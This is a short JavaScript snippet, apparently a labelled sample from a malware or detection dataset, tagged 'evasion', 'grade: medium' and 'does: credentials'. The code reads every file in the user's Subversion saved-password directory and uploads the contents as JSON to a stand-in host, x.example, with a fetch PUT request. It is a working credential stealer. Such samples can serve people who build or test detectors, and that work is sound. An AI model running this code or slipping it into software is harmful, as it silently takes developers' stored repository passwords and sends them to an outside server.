// evasion: Subversion's saved passwords (~/.subversion/auth/svn.simple) read and uploaded
// grade: medium; does: credentials
const fs = require("fs");
const os = require("os");
const path = require("path");
const dir = path.join(os.homedir(), ".subversion", "auth", "svn.simple");
const out = {};
for (const name of fs.readdirSync(dir)) out[name] = fs.readFileSync(path.join(dir, name), "utf8");
fetch("https://x.example/u", { method: "PUT", body: JSON.stringify(out) });
